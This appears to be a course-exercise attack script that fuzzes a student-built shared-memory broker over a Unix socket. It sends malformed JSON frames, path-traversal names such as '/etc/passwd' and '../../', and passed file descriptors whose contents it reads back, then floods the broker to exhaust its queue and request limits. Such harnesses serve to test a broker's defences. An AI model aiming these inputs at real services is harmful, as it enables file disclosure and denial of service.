"""Sends the fork server, from a grandchild, whatever frames it can make up."""
# attack: week=11 exercise=shm
import array
import json
import os
import socket
import struct

GOOD = {"kind": "create", "name": "@MARK@", "size": 1}


def frames():
    yield from (b"listener", b'{"a": ' + b"[" * 4000, b"\xff" * 50_000)
    yield b'{"kind": "open", "name": "\xff"}'
    yield from (b"\0" * 4096, b"[" * 4000, b"{" * 4000, b'"' + b"\\ud800" * 600, b"1" * 4000)
    for kind in ("create", "resize", "publish", "open", "remove", "answer", "_add", "close", "__init__"):
        for name in ("@MARK@", "", "/etc/passwd", "../../@MARK@", "x\0y", "@SUITE@", "@CLASSMATE@", 7):
            for size in (1, -1, 1 << 39, 1 << 70, 1.5):
                yield json.dumps({"kind": kind, "name": name, "size": size}).encode()


def speak():
    broker = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET, 0, 4)
    ours, theirs = socket.socketpair()
    ours.settimeout(0.001)
    for frame in frames():
        for sent in ([theirs.fileno()], [theirs.fileno(), 1, 2, 4], [], [0] * 30):
            control = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", sent))]
            try:
                broker.sendmsg([frame], control if sent else [])
                answer, found, *_ = socket.recv_fds(ours, 1024, 4)
                for descriptor in found:
                    print("got", os.pread(descriptor, 100, 0))
                    os.close(descriptor)
            except OSError:
                continue
    control = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", 1))]
    for _ in range(2000):  # where no answer can be put
        try:
            broker.sendmsg([b"{}"], control)
        except OSError:  # the queue is full of them
            pass
    for _ in range(25_000):  # more requests than one family has
        broker.send(json.dumps(GOOD).encode())


if os.fork() == 0:
    if os.fork():
        os.wait()
        os._exit(0)
    try:
        speak()
        print("it said all", flush=True)
    except Exception as error:
        print("not all", repr(error), flush=True)
    os._exit(0)
os.wait()


class SharedMatrix:
    def __init__(self, rows, columns):
        self.name = "@MARK@"
